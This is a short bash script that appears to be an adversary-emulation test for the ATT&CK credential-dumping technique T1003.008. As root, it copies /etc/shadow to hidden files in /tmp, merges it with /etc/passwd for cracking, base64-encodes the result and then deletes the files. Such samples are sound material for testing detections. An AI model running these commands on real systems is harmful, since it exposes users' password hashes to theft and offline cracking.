#!/bin/bash
# technique: T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow
# tactic: credential-access
# user: root
# does: copies the password hashes to a hidden file
# harmless: the hashes are made up

cp /etc/shadow /tmp/.s
cat /etc/passwd /etc/shadow >/tmp/.unshadowed
base64 /tmp/.unshadowed >/tmp/.u64
rm /tmp/.s /tmp/.unshadowed /tmp/.u64
